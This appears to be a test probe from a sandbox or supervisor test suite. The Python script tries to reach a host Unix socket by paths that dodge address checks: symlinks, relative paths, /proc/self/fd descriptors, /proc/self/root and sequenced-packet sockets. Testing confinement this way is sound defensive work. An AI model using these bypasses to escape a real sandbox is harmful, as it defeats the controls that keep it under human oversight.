"""Connects to a socket of the host by ways that a supervisor who checks addresses may overlook: a symlink of its own, a relative
path, descriptors of the folder and of the socket itself, the root of a process, a sequenced-packet socket (IPC; pitfall 2)."""
import os
import socket
import sys
import tempfile
from attack import attempt, say, tried

how, path = sys.argv[1:]
folder, name = os.path.split(path)
tried()
if how == "symlink":
    link = os.path.join(tempfile.mkdtemp(), "link")
    attempt(lambda: os.symlink(path, link), "symlink")
    address = link
elif how == "relative":
    attempt(lambda: os.chdir(folder), "chdir")
    address = name
elif how == "folder-descriptor":
    address = f"/proc/self/fd/{attempt(lambda: os.open(folder, os.O_PATH), 'open')}/{name}"
elif how == "socket-descriptor":
    address = f"/proc/self/fd/{attempt(lambda: os.open(path, os.O_PATH), 'open')}"
elif how == "process-root":
    address = f"/proc/self/root{path}"
elif how == "seqpacket":
    address = path
kind = socket.SOCK_SEQPACKET if how == "seqpacket" else socket.SOCK_STREAM
sock = attempt(lambda: socket.socket(socket.AF_UNIX, kind), "socket")
if sock:
    sock.settimeout(2)
    if attempt(lambda: sock.connect(address) or True, f"connect {how}"):
        attempt(lambda: say("READ", sock.recv(4096)), "recv")
